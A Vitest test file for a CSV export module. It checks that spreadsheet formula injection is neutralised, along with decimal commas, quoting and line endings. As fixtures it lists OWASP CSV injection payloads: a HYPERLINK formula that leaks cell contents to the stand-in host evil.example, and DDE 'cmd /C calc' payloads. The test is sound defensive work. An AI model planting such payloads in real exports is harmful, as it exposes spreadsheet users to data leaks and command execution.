import { describe, expect, it } from 'vitest';
import { BOM, csvCell, csvNumber, neutralise, toCsv } from './csv';
import type { ExportTable } from './table';

// Payloads from OWASP's "CSV Injection" page (https://owasp.org/www-community/attacks/CSV_Injection).
const OWASP = [
	'=HYPERLINK("http://evil.example/?leak="&A1&A2,"Error: please click for further information")',
	"=cmd|' /C calc'!A0",
	'=1+2";=1+2',
	"+SUM(1+1)*cmd|' /C calc'!A0",
	"-2+3+cmd|' /C calc'!A0",
	"@SUM(1+1)*cmd|' /C calc'!A0",
	'\t=1+2',
	'\r=1+2'
];

describe('neutralise', () => {
	it.each(OWASP)('prefixes %j with an apostrophe', (payload) => {
		expect(neutralise(payload)).toBe(`'${payload}`);
	});

	it('leaves ordinary text alone, also with a formula sign inside', () => {
		expect(neutralise('Altstadt-Süd')).toBe('Altstadt-Süd');
		expect(neutralise('A=B')).toBe('A=B');
		expect(neutralise('')).toBe('');
	});
});

describe('csvCell', () => {
	it('quotes a neutralised payload that holds the separator and a quote, so it stays one cell', () => {
		expect(csvCell('=1+2";=1+2')).toBe(`"'=1+2"";=1+2"`);
	});

	it('keeps real negative numbers as numbers with a decimal comma', () => {
		expect(csvCell(-1.5, 1)).toBe('-1,5');
		expect(csvCell(-2)).toBe('-2');
		expect(csvCell(1234.567, 2)).toBe('1234,57');
	});

	it('writes a negative number that arrives as text as neutralised text', () => {
		expect(csvCell('-1,5')).toBe("'-1,5");
	});

	it('never writes a signed zero and leaves empty and non-finite cells empty', () => {
		expect(csvNumber(-0.01, 1)).toBe('0,0');
		expect(csvCell(null)).toBe('');
		expect(csvCell(Number.NaN)).toBe('');
	});
});

describe('toCsv', () => {
	const table: ExportTable = {
		name: 'Test',
		columns: [{ label: 'Sozialraum' }, { label: 'Wert (%)', decimals: 1 }, { label: 'Hinweis' }],
		rows: [
			['=HYPERLINK("http://evil.example")', 12.345, ''],
			['Nordstadt', null, 'geheim gehalten'],
			['Süd; Mitte', -3.25, '•']
		],
		meta: []
	};

	it('starts with a BOM, uses semicolons and CRLF', () => {
		const text = toCsv(table);
		expect(text.startsWith(BOM)).toBe(true);
		const lines = text.slice(1).split('\r\n');
		expect(lines).toEqual([
			'Sozialraum;Wert (%);Hinweis',
			`"'=HYPERLINK(""http://evil.example"")";12,3;`,
			'Nordstadt;;geheim gehalten',
			'"Süd; Mitte";-3,3;•',
			''
		]);
	});
});
